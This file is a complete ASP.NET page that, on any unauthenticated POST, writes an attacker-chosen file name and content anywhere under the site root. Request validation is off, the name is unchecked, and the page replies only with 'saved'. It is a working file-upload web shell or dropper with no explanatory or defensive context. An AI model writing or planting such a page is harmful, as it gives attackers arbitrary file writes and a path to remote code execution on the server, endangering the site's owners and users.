<%@ Page Language="C#" ValidateRequest="false" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    if (Request.HttpMethod == "POST") {
        string name = Request.Form["name"];
        string body = Request.Form["body"];
        System.IO.File.WriteAllText(Server.MapPath("~/" + name), body, System.Text.Encoding.UTF8);
        Response.Write("saved");
    }
}
</script>
